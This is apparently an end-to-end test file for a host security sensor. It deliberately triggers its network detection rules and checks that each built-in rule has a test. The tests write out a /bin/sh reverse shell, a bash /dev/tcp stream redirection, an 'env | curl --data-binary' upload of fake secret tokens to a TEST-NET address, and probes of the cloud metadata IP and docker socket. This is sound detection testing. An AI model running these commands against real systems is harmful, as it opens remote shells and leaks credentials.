"""Built-in rules on network activity, triggered for real under the live sensor (root), each in its own cgroup; and
the check that every built-in rule has a live test (the table in live_rules_table.py).

The peers (listeners, the reverse shell's operator) live in the test process, outside the traced cgroup."""
import importlib
import json
import os
import socket
import subprocess
import unittest

from live_rules_table import LIVE_RULE_TESTS
from sensor_harness import PYTHON, Listener, LiveSensor, closed_port, echoed_pid, skip_unless_root, which
from vigil_e2e import VIGIL


def connect_code(address, port, timeout=0.5, family="AF_INET"):
    """A python3 -c program connecting once (failures are fine: the attempt is what the rules see)."""
    return (f"import socket\n"
            f"s = socket.socket(socket.{family}, socket.SOCK_STREAM)\n"
            f"s.settimeout({timeout})\n"
            f"print(s.connect_ex({address!r} if socket.{family} == socket.AF_UNIX else ({address!r}, {port})))\n")


@skip_unless_root()
class LiveNetworkRules(unittest.TestCase):
    def test_reverse_shell(self):
        with LiveSensor(self) as s, Listener(script=b"echo reverse-shell $$\nexit\n") as operator:
            conn = socket.create_connection(("127.0.0.1", operator.port))
            try:
                p = s.run(["/bin/sh", "-i"], stdin=conn.fileno(), stdout=conn.fileno(), stderr=conn.fileno())
            finally:
                conn.close()
            s.stop()
        (d,) = s.expect("Reverse shell", pid=p.pid, exe="/bin/sh", cmdline="sh -i")
        self.assertEqual(d["event"]["stdin_type"], "socket")
        self.assertEqual(d["event"]["stdout_type"], "socket")

    def test_shell_stream_redirected_to_socket(self):
        bash = which("bash")
        with LiveSensor(self) as s, Listener() as operator:
            p = s.run([bash, "-c", f"echo $$; exec 3<>/dev/tcp/127.0.0.1/{operator.port}; exec 0<&3 1>&3 2>&3; "
                                   "echo connected"])
            s.stop()
        found = s.expect("Shell standard stream redirected to a socket", pid=echoed_pid(p), exe=bash, event_type="dup")
        self.assertEqual(sorted(d["event"].get("request", 0) for d in found), [0, 1, 2])
        for d in found:
            self.assertEqual(d["event"]["fd_type"], "socket")
            self.assertEqual(d["event"]["fd"], 3)

    def test_environment_dumped_then_sent(self):
        curl = which("curl")
        env = {k: v for k, v in os.environ.items() if "proxy" not in k.lower()}
        env.update(GITHUB_TOKEN="ghp_e2e", AWS_SECRET_ACCESS_KEY="e2e", NPM_TOKEN="e2e", CI_JOB_PASSWORD="e2e")
        with LiveSensor(self) as s:
            # 192.0.2.0/24 is TEST-NET-1: the connect fails (unreachable or timeout); the attempt is the exfiltration.
            p = s.run(f"env | {curl} -s --connect-timeout 0.5 --data-binary @- http://192.0.2.10/upload; "
                      "echo $?", env=env, check=False)
            s.stop()
        found = s.expect("Environment dumped then sent to an unlisted host", exe=curl, event_type="connect",
                         pids=[e["pid"] for e in s.events if e.get("comm") in ("env", "curl")])
        self.assertEqual(found[0]["event"]["daddr"], "192.0.2.10")
        self.assertEqual(found[0]["event"]["dport"], 80)
        self.assertIn("with 4 secret-looking variables", found[0]["output"])
        self.assertEqual(found[0]["process"]["ppid"], p.pid)

    def test_cloud_metadata_contacted(self):
        with LiveSensor(self) as s:
            p = s.run([PYTHON, "-c", connect_code("169.254.169.254", 80)])
            s.stop()
        (d,) = s.expect("Cloud metadata service contacted", pid=p.pid, exe=PYTHON, event_type="connect")
        self.assertEqual((d["event"]["daddr"], d["event"]["dport"]), ("169.254.169.254", 80))

    def test_crypto_miner_pool_port(self):
        with LiveSensor(self) as s:
            p = s.run([PYTHON, "-c", connect_code("127.0.0.1", 3333)])
            s.stop()
        (d,) = s.expect("Connection to a crypto-miner pool port", pid=p.pid, exe=PYTHON, event_type="connect")
        self.assertEqual(d["event"]["dport"], 3333)
        self.assertEqual(d["event"]["family"], "inet")

    def test_container_runtime_socket(self):
        with LiveSensor(self) as s:
            p = s.run([PYTHON, "-c", connect_code("/var/run/docker.sock", 0, family="AF_UNIX")])
            s.stop()
        (d,) = s.expect("Container runtime socket accessed", pid=p.pid, exe=PYTHON, event_type="connect")
        self.assertEqual(d["event"]["unix_path"], "/var/run/docker.sock")
        self.assertEqual(d["event"]["family"], "unix")

    def test_connection_storm(self):
        port = closed_port()
        code = ("import socket\n"
                "for _ in range(60):\n"
                "    s = socket.socket()\n"
                f"    s.connect_ex(('127.0.0.1', {port}))\n"
                "    s.close()\n")
        with LiveSensor(self) as s:
            p = s.run([PYTHON, "-c", code])
            s.stop()
        found = s.expect("Connection storm", pid=p.pid, exe=PYTHON, event_type="connect")
        self.assertEqual(len(found), 1, found)  # one detection per burst
        self.assertEqual(found[0]["event"]["ret"], -111)  # ECONNREFUSED


class EveryRuleHasALiveTest(unittest.TestCase):
    def test_table_covers_every_builtin_rule(self):
        listed = subprocess.run([VIGIL, "rules", "list", "-f", "json"], capture_output=True, text=True, timeout=60)
        self.assertEqual(listed.returncode, 0, listed.stderr)
        rules = [r["rule"] for r in json.loads(listed.stdout)["rules"]]
        self.assertGreaterEqual(len(rules), 11)
        missing = [r for r in rules if r not in LIVE_RULE_TESTS]
        self.assertEqual(missing, [], "built-in rules without a live test: add a test and a row to live_rules_table.py")
        stale = [r for r in LIVE_RULE_TESTS if r not in rules]
        self.assertEqual(stale, [], "live_rules_table.py names rules that are not built in")

    def test_table_names_existing_tests(self):
        for rule, where in LIVE_RULE_TESTS.items():
            module_name, class_name, method = where.split(".")
            module = importlib.import_module(module_name)
            self.assertTrue(callable(getattr(getattr(module, class_name), method, None)), f"{rule}: {where}")


if __name__ == "__main__":
    unittest.main()
